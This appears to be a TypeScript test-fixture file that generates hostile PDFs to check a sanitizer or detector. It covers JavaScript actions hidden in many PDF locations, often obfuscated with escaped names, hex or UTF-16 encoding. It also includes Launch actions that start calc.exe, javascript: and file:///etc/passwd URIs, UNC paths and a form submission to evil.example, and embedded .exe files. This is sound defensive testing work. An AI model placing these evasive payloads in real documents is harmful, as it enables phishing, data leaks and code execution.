import {
  onePage,
  type PdfObject,
  type PdfParts,
  packedPage,
  streamOf,
  withField,
  withLink,
} from '../pdfs.ts';
import type { HostilePdf } from './hostile-pdf.ts';

/** PDFs with active content: scripts, and other things that make a viewer act. */

const SCRIPT_TEXT = '(app.alert\\(1\\))';
export const SCRIPT = `<< /S /JavaScript /JS ${SCRIPT_TEXT} >>`;
/** what poppler prints about it */
export const SCRIPT_SEEN = 'app.alert(1)';

/** Every place for a script; poppler finds all but the last few. */
const SCRIPT_PLACES: Record<string, PdfParts> = {
  'the catalog’s names': {
    catalog: '/Names << /JavaScript << /Names [(main) 7 0 R] >> >>',
    objects: [[7, SCRIPT]],
  },
  'the catalog’s own actions': { catalog: `/AA << /WC ${SCRIPT} >>` },
  'a page’s own actions': { page: `/AA << /O ${SCRIPT} >>` },
  'a link': withLink(`/A ${SCRIPT}`),
  'a link that goes by references': withLink('/A 8 0 R', [
    [7, SCRIPT_TEXT],
    [8, '<< /S /JavaScript /JS 7 0 R >>'],
  ]),
  'a link whose kind of action is a reference': withLink(`/A << /S 7 0 R /JS ${SCRIPT_TEXT} >>`, [
    [7, '/JavaScript'],
  ]),
  'a link whose kind of action is a reference, without a key that tells': withLink(
    '/A << /S 7 0 R /Next 8 0 R >>',
    [
      [7, '/J#61vaScript'],
      [8, '<< /S /URI /URI (https://example.com) >>'],
    ],
  ),
  'a link in escaped names': withLink(`/A << /#53 /J#61v#61Script /#4a#53 ${SCRIPT_TEXT} >>`),
  'a field’s own actions': withField(`/AA << /K ${SCRIPT} >>`),
  'a field': withField(`/A ${SCRIPT}`),
  'what opens the file': { catalog: `/OpenAction ${SCRIPT}` },
  'what comes after another action': withLink(
    `/A << /S /URI /URI (https://example.com) /Next [${SCRIPT}] >>`,
  ),
  'the outline': {
    catalog: '/Outlines 7 0 R',
    objects: [
      [7, '<< /First 8 0 R /Last 8 0 R /Count 1 >>'],
      [8, `<< /Title (a) /Parent 7 0 R /A ${SCRIPT} >>`],
    ],
  },
  'a film': withAnnotation(`/Subtype /Screen /A << /S /Rendition /JS ${SCRIPT_TEXT} >>`),
};
const UNSEEN_BY_POPPLER = ['without a key', 'what opens', 'what comes after', 'the outline', 'a film'];

/** Other things that make a viewer act. */
const ACTIONS: Record<string, PdfParts> = {
  'an active form': { catalog: '/AcroForm << /Fields [] /XFA 7 0 R >>', objects: [[7, streamOf('<xdp/>')]] },
  'a program to start': withLink('/A << /S /Launch /F (calc.exe) >>'),
  'a program to start, on Windows': withLink('/A << /S /L#61unch /Win << /P (calc.exe) >> >>'),
  'an address that is a script': withLink('/A << /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'an address that is a script, in hexadecimal': withLink(
    '/A << /S /URI /URI <6A617661736372697074 3A31> >>',
  ),
  'an address that is a script, escaped': withLink('/A << /S /URI /URI (\\152ava\\\nscript\\0721) >>'),
  'an address that is a script, with a tab in it': withLink('/A << /S /URI /URI (java\tscript:1) >>'),
  'an address that is a script, by reference': withLink('/A << /S /URI /URI 7 0 R >>', [
    [7, '(javascript:1)'],
  ]),
  'an address that is a script, in 16 bits': withLink(
    '/A << /S /URI /URI <FEFF006A006100760061007300630072006900700074003A> >>',
  ),
  'an address on this machine': withLink('/A << /S /URI /URI (file:///etc/passwd) >>'),
  'an address of another machine’s files': withLink('/A << /S /URI /URI (\\\\\\\\evil.example\\\\a) >>'),
  'an address of another machine’s files, behind a space': withLink(
    '/A << /S /URI /URI ( \\\\\\\\evil.example\\\\a) >>',
  ),
  'a beginning of all addresses that is a script': { catalog: '/URI << /Base (javascript:) >>' },
  'a form that is sent': withField('/A << /S /SubmitForm /F (https://evil.example) >>'),
  'a form that is filled from a file': withField('/A << /S /ImportData /F (a.fdf) >>'),
  'a link to another file': withLink('/A << /S /GoToR /F (a.pdf) /D [0 /Fit] >>'),
  'a link to an embedded file': withLink('/A << /S /GoToE /T << /R /C /N (a) >> >>'),
  'embedded files': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>',
    objects: [
      [7, '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>'],
      [8, streamOf('MZ', '/Type /EmbeddedFile')],
    ],
  },
  'an attached file': withAnnotation('/Subtype /FileAttachment /FS 7 0 R', [
    [7, '<< /Type /Filespec /UF (a.exe) >>'],
  ]),
  'rich media': withAnnotation('/Subtype /RichMedia /RichMediaContent << >>'),
  'a 3D model': withAnnotation('/Subtype /3D /3DD 7 0 R', [[7, streamOf('U3D', '/Type /3D /Subtype /U3D')]]),
  'an old film': withAnnotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a sound': withAnnotation('/Subtype /Sound /Sound 7 0 R', [[7, streamOf('....', '/Type /Sound /R 8000')]]),
  'a stream that lies in another file': { objects: [[7, streamOf('', '/F (\\\\\\\\evil.example\\\\a)')]] },
  'a page of another file': {
    objects: [
      [7, streamOf('', '/Type /XObject /Subtype /Form /Ref << /F 8 0 R /Page 0 >>')],
      [8, '(a.pdf)'],
    ],
  },
};

function withAnnotation(entries: string, objects: readonly PdfObject[] = []): PdfParts {
  return { page: `/Annots [<< /Type /Annot /Rect [0 0 90 90] ${entries} >>]`, objects };
}

/** Each one comes with its objects in the open, and with its objects in an object stream. */
export function activePdfs(): HostilePdf[] {
  const places = Object.entries(SCRIPT_PLACES).flatMap(([place, parts]): HostilePdf[] => {
    const hasScript = !UNSEEN_BY_POPPLER.some((name) => place.includes(name));
    return [
      { name: `a script in ${place}`, pdf: onePage(parts), problem: 'unsafe', hasScript },
      {
        name: `a script in ${place}, in an object stream`,
        pdf: packedPage(parts),
        problem: 'unsafe',
        hasScript,
      },
    ];
  });
  const actions = Object.entries(ACTIONS).flatMap(([name, parts]): HostilePdf[] => [
    { name, pdf: onePage(parts), problem: 'unsafe' },
    { name: `${name}, in an object stream`, pdf: packedPage(parts), problem: 'unsafe' },
  ]);
  return [...places, ...actions];
}
